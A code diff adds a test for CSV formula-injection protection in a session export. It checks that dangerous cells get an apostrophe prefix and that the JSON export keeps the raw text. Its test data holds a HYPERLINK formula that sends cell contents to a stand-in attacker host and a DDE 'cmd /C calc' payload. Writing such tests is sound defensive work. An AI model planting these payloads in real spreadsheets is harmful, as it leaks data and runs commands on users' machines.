@@ -248,6 +248,53 @@ def test_export_import_export_gives_the_same_bytes(engine, tmp_path):
     fresh.dispose()
 
 
+def test_a_csv_cell_that_would_run_as_a_formula_is_written_as_text(db):
+    """A customer who writes ``=HYPERLINK(…)`` or is named ``@SUM(…)`` gets no formula run on the
+    lead who opens the export in a spreadsheet: such cells start with an apostrophe (shown by no
+    spreadsheet); every other cell, and the JSON export, keep the text as it was."""
+    who = actor(db)
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+    messages = [
+        {
+            "external_id": "f1",
+            "author": "customer",
+            "text": link,
+            "sent_at": "2026-11-26T09:00:05Z",
+        },
+        {
+            "external_id": "f2",
+            "author": "customer",
+            "text": "-1 for the wait",
+            "sent_at": "2026-11-26T09:00:06Z",
+        },
+        {
+            "external_id": "f3",
+            "author": "ai",
+            "text": "Sorry = not fine",
+            "sent_at": "2026-11-26T09:00:07Z",
+        },
+    ]
+    customer = {"external_id": "crm-f", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    ingest.upsert_session(
+        db,
+        exchange.parse(
+            SessionIn, doc(external_id="formula-1", messages=messages, customer=customer)
+        ),
+        actor=who,
+        now=NOW,
+        locate=LOCATE,
+    )
+    raw = b"".join(export.stream(db, "csv", actor=who, now=NOW)).decode("utf-8-sig")
+    rows = [r for r in csv.DictReader(io.StringIO(raw)) if r["session_external_id"] == "formula-1"]
+    assert [r["text"] for r in rows] == ["'" + link, "'-1 for the wait", "Sorry = not fine"]
+    assert {r["customer"] for r in rows} == {"'" + customer["name"]}
+    docs = [
+        json.loads(x) for x in b"".join(export.stream(db, "jsonl", actor=who, now=NOW)).splitlines()
+    ]
+    ours = next(d for d in docs if d["external_id"] == "formula-1")
+    assert ours["messages"][0]["text"] == link and ours["customer"]["name"] == customer["name"]
+
+
 def test_csv_opens_with_pythons_csv_module_one_row_per_message(engine):
     raw = _export(engine, "csv")
     assert raw.startswith("\ufeff".encode())
